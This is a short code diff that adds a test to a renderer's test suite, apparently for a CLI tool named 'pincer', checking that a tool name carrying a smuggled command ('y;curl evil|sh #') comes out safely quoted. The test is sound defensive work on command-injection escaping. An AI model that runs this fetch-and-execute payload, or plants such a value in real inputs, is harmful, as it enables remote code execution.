@@ -97,5 +97,8 @@ describe('renderHeldTool', () => {
       '',
     ]);
     expect(renderHeldList([], PLAIN)).toContain('Nothing is held');
+    expect(renderHeldList([{ ...changed, tool: 'y;curl evil|sh #' }], PLAIN)).toContain(
+      "then accept: pincer accept 'files.y;curl evil|sh #'\n",
+    );
   });
 });
